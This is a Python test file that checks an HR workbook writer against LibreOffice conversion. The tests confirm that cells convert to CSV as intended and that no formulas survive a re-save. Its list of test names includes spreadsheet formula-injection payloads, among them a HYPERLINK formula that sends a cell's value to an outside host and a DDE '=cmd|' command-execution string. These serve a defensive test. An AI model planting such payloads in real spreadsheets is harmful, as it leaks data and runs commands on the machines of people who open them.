"""What LibreOffice makes of a workbook: shown as CSV, and saved again by a clerk."""

import csv
import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pytest

from hrdesk.domain.batch_spec import CellFormat
from hrdesk.domain.money import from_fen
from hrdesk.workbooks.batch_sheet import BatchSheet
from hrdesk.workbooks.sheet_lines import sheet_plans
from tests.people import NAMES
from tests.workbooks.batches import (
    ACCOUNT,
    COLUMNS,
    IDENTITY,
    NAME,
    TITLES,
    batch_of,
    row_of,
    written,
)

#: Comma, quotes, UTF-8, as shown, no formulas, all sheets (each a file of its own).
CSV = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,true,true,true,false,false,-1"
XLSX = "xlsx:Calc MS Excel 2007 XML"
TOP = len(TITLES) + 1
INJECTED = [
    '=HYPERLINK("http://a.b?"&A1,"点")',
    "=1+1",
    "+1+1",
    "-1-1",
    "@SUM(A1:A9)",
    "'=1+1",
    "\t=1+1",
    "=cmd|'/c calc'!A0",
    "<r><t>=1</t></r>",
    "1e5",
    "007",
    "TRUE",
    "2026-03-18",
    " 空格 ",
    "a\nb",
    'a,"b"',
    "_x0041_",
]


@pytest.fixture
def office(tmp_path) -> Callable[[Path, str], Path]:
    """Convert a workbook with a LibreOffice of its own; a missing one is a failure."""
    if shutil.which("soffice") is None:
        pytest.fail("soffice is missing: packaging/system_libraries.sh installs it for the tests")

    def convert(path: Path, into: str) -> Path:
        folder = tmp_path / f"as {into.partition(':')[0]}"
        profile = (tmp_path / "profile").as_uri()
        options = ["--headless", "--norestore", f"-env:UserInstallation={profile}"]
        command = ["soffice", *options, "--convert-to", into, "--outdir", folder, path]
        done = subprocess.run(command, capture_output=True, check=False, timeout=150)
        assert done.returncode == 0, done.stderr
        assert list(folder.iterdir()), done.stdout + done.stderr
        return folder

    return convert


def sample() -> BatchSheet:
    names = [*NAMES, *INJECTED]
    return batch_of([row_of(n, name) for n, name in enumerate(names)])


def shown(sheet: BatchSheet) -> list[list[list[str]]]:
    """The cells of both worksheets as a person sees them."""
    pages = []
    for plan in sheet_plans(sheet):
        page = []
        for line in plan.lines():
            cells = [
                ""
                if cell is None
                else str(from_fen(cell))
                if format_ is CellFormat.MONEY
                else str(cell)
                for cell, format_ in zip(line.cells, line.formats, strict=True)
            ]
            page.append(cells + [""] * (len(plan.widths) - len(cells)))
        pages.append(page)
    return pages


def read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as stream:
        return list(csv.reader(stream))


def test_every_cell_is_shown_as_it_was_meant(tmp_path, office):
    sheet = sample()
    written(sheet, tmp_path / "b.xlsx")
    folder = office(tmp_path / "b.xlsx", CSV)
    rows, page = shown(sheet)
    assert read_csv(folder / "b-申报.csv") == rows
    assert read_csv(folder / "b-控制页.csv") == page


def test_nothing_changes_when_a_clerk_saves_it_again(tmp_path, office):
    sheet = sample()
    written(sheet, tmp_path / "b.xlsx")
    saved = openpyxl.load_workbook(office(tmp_path / "b.xlsx", XLSX) / "b.xlsx")
    cells = [cell for page in saved for row in page.iter_rows() for cell in row]
    assert [cell for cell in cells if cell.data_type == "f"] == []
    rows = list(saved["申报"].iter_rows(min_row=TOP + 1, max_col=len(COLUMNS)))
    assert len(rows) == len(sheet.rows)
    for row, meant in zip(rows, sheet.rows, strict=True):
        for index in (IDENTITY, ACCOUNT):
            assert (row[index].value, row[index].data_type) == (meant[index], "s")
            assert row[index].number_format == "@"
        assert row[4].value.date() == meant[4]
        assert row[5].value == meant[5].isoformat()
        assert round(row[6].value * 100) == meant[6]
    assert [row[NAME].value for row in rows] == [row[NAME] for row in sheet.rows]
